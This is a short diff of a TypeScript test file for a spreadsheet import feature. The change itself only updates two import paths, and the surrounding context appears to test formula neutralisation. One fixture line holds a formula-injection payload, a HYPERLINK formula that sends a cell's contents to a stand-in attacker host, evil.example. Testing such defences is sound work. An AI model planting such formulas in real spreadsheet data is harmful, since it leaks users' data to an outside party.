@@ -7,8 +7,8 @@ import { neutraliseCell, restoreCell } from '../../../common/import/formula-guar
 import { initialStepState, rowResultsOf, type StepState } from '../../../main/import/batch-results';
 import { matchHeader } from '../../../common/import/aliases';
 import { buildReport, PERSON_REPORT_COLUMNS, REPORT_COLUMNS } from '../../../main/import/report';
-import { PEOPLE_MAPPING, peopleSpec, person } from '../../integration/import/run/people';
-import { deviceIdOf, documentOf, phone, specOf, stepOf, type RowPlan } from '../../integration/import/run/spec';
+import { PEOPLE_MAPPING, peopleSpec, person } from '../../support/people-spec';
+import { deviceIdOf, documentOf, phone, specOf, stepOf, type RowPlan } from '../../support/batch-spec';
 
 const hostile = { ...phone(2), name: '=HYPERLINK("http://evil.example/?"&A1,"Click")' };
 const plans: RowPlan[] = [
